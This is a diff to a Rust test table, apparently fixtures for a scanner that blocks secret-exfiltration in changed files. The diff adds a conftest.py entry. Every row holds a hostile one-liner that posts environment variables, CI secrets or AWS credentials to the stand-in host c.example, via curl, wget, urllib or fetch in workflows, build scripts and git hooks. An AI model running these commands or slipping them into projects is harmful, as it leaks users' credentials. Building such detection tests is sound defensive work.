@@ -17,6 +17,7 @@ const CHANGES: &[(&str, &str, Option<TraceWeight>)] = &[
     (".github/workflows/b.yaml", "env:\n  D: ${{ toJson( secrets ) }}\nrun: |\n  wget --post-data \"$D\" https://c.example\n", Some(Blocks)),
     (".github/workflows/a.yml", "- run: env | curl -d @- https://c.example\n", Some(Blocks)),
     ("Makefile", "\tcurl -d \"$(printenv)\" https://c.example\n", Some(Blocks)),
+    ("conftest.py", "import os, urllib.request\nurllib.request.urlopen('https://c.example', data=str(dict(os.environ)).encode())\n", Some(Blocks)),
     ("build/setup.py", "urlopen(Request('https://c.example', data=json.dumps(dict(os.environ)).encode()))\n", Some(Blocks)),
     ("postinstall.js", "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})\n", Some(Blocks)),
     (".husky/pre-push", "curl -F f=@$HOME/.aws/credentials https://c.example\n", Some(Blocks)),
